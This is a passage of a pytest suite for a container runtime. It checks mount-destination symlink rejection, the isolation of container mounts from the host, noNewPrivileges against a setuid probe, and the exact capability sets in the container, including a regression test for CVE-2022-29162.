    (which would move the kernel's files elsewhere in the rootfs, past masked paths)."""
    path = bundle.rootfs / dest
    path.rmdir()
    if kind == "symlink":
        os.symlink("/symlink", path)
    else:
        path.write_text("")
    set_sh(bundle, "echo ran")
    cid = runtime.new_id()
    proc = runtime.run(bundle, cid, check=False, stdin=subprocess.DEVNULL)
    assert proc.returncode == 1 and "ran" not in proc.stdout
    assert_failed(proc, "must be mounted on ordinary directory")
    if is_pyruntime():
        i = [m["destination"] for m in bundle.config["mounts"]].index("/" + dest)
        assert f"mounts[{i}].destination: \"/{dest}\"" in proc.stderr
    assert not (bundle.rootfs / "symlink").exists()
    assert not (runtime.root / cid).exists()


# ================================================================ mounts, nnp, capabilities

def test_mount_inside_the_container_does_not_reach_the_host(runtime, bundle, tmp_path):
    caps = ["CAP_SYS_ADMIN", "CAP_KILL", "CAP_AUDIT_WRITE"]
    bundle.config["process"]["capabilities"] = {k: caps for k in ("bounding", "effective", "permitted")}
    set_sh(bundle, "mkdir -p /m1 /m2 && mount -t tmpfs none /m1 && mount --bind /bin /m2 && "
                   "mount -t tmpfs none /tmp && echo mounted > /mounted; sleep 30")
    host_before = Path("/proc/self/mountinfo").read_text()
    cid = runtime.create(bundle)
    runtime("start", cid)
    wait_file(bundle.rootfs / "mounted", timeout=10)
    pid = runtime.state(cid)["pid"]
    inside = [m["target"] for m in mountinfo(Path(f"/proc/{pid}/mountinfo").read_text())]
    assert {"/m1", "/m2", "/tmp"} <= set(inside)
    host_after = Path("/proc/self/mountinfo").read_text()
    new = set(host_after.splitlines()) - set(host_before.splitlines())
    # (other test suites may mount elsewhere meanwhile: look where ours would propagate to)
    ours = [line for line in new if line.split()[4] in ("/m1", "/m2", "/tmp")
            or line.split()[4].startswith(str(bundle.path))]
    assert not ours, f"mounts appeared on the host: {ours}"
    assert mounts_under(bundle.path) == []
    runtime("delete", "--force", cid)


@pytest.mark.skipif(not X86_64, reason="the probe is a hand-made x86_64 binary")
@pytest.mark.parametrize("nnp", [True, False])
def test_no_new_privileges_blocks_setuid(runtime, bundle, nnp):
    """A setuid-root binary run by uid 1000: euid stays 1000 under noNewPrivileges (and the
    control without it shows the probe works: euid 0)."""
    probe = bundle.rootfs / "suid-euid"
    probe.write_bytes(elf_exit_with(EUID_EXIT))
    os.chown(probe, 0, 0)
    os.chmod(probe, 0o4755)
    bundle.config["process"]["user"] = {"uid": 1000, "gid": 1000}
    bundle.config["process"]["noNewPrivileges"] = nnp
    bundle.config["process"]["args"] = ["/suid-euid"]
    bundle.write()
    proc = runtime.run(bundle, check=False, stdin=subprocess.DEVNULL)
    assert proc.returncode == (1000 & 0xFF if nnp else 0), proc.stderr
    out = run_sh(runtime, bundle, "grep NoNewPrivs /proc/self/status")
    assert out.split() == ["NoNewPrivs:", "1" if nnp else "0"]


def _caps_of(out: str) -> dict[str, int]:
    st = parse_status(out)
    return {k: int(st[k], 16) for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}


def _mask(names) -> int:
    m = 0
    for n in names:
        m |= 1 << CAPS[n]
    return m


def test_capabilities_exact_for_root_inheritable_empty(runtime, bundle):
    """CVE-2022-29162: without `inheritable` in the config the set is empty; bounding exactly as
    asked; permitted and effective as asked (noNewPrivileges keeps execve from widening them)."""
    bnd = ["CAP_CHOWN", "CAP_KILL", "CAP_NET_BIND_SERVICE", "CAP_SETUID"]
    bundle.config["process"]["capabilities"] = {
        "bounding": bnd, "effective": ["CAP_KILL"], "permitted": ["CAP_KILL", "CAP_CHOWN"]}
    caps = _caps_of(run_sh(runtime, bundle, "grep ^Cap /proc/self/status"))
    assert caps == {"CapInh": 0, "CapPrm": _mask(["CAP_KILL", "CAP_CHOWN"]),
                    "CapEff": _mask(["CAP_KILL", "CAP_CHOWN"]),  # root: effective = permitted
                    "CapBnd": _mask(bnd), "CapAmb": 0}, {k: hex(v) for k, v in caps.items()}


def test_capabilities_exact_in_all_five_sets_non_root(runtime, bundle):
    bnd = ["CAP_CHOWN", "CAP_KILL", "CAP_NET_BIND_SERVICE", "CAP_NET_RAW"]
    bundle.config["process"]["user"] = {"uid": 1000, "gid": 1000}
    bundle.config["process"]["capabilities"] = {
        "bounding": bnd, "effective": ["CAP_NET_BIND_SERVICE", "CAP_KILL"],
        "permitted": ["CAP_NET_BIND_SERVICE", "CAP_KILL"],
        "inheritable": ["CAP_NET_BIND_SERVICE", "CAP_KILL"], "ambient": ["CAP_NET_BIND_SERVICE"]}
    caps = _caps_of(run_sh(runtime, bundle, "grep ^Cap /proc/self/status"))
    nb = _mask(["CAP_NET_BIND_SERVICE"])
    # execve keeps only the ambient set in permitted and effective for a non-root user
    assert caps == {"CapInh": _mask(["CAP_NET_BIND_SERVICE", "CAP_KILL"]), "CapPrm": nb,
                    "CapEff": nb, "CapBnd": _mask(bnd), "CapAmb": nb}, \
        {k: hex(v) for k, v in caps.items()}


@pytest.mark.skipif(not is_pyruntime(), reason="runc 1.1 only warns and leaves it out")
def test_capability_outside_the_hosts_bounding_set_is_a_clear_error(runtime, bundle):
    missing = [n for n in CAPS if n not in all_host_caps()]
    if not missing:
        pytest.skip("this host's bounding set has every capability")
    bundle.config["process"]["capabilities"]["bounding"].append(missing[0])
    bundle.write()
    proc = runtime.run(bundle, check=False, stdin=subprocess.DEVNULL)
    assert proc.returncode != 0
    assert_no_traceback(proc)
    assert missing[0] in proc.stderr, proc.stderr
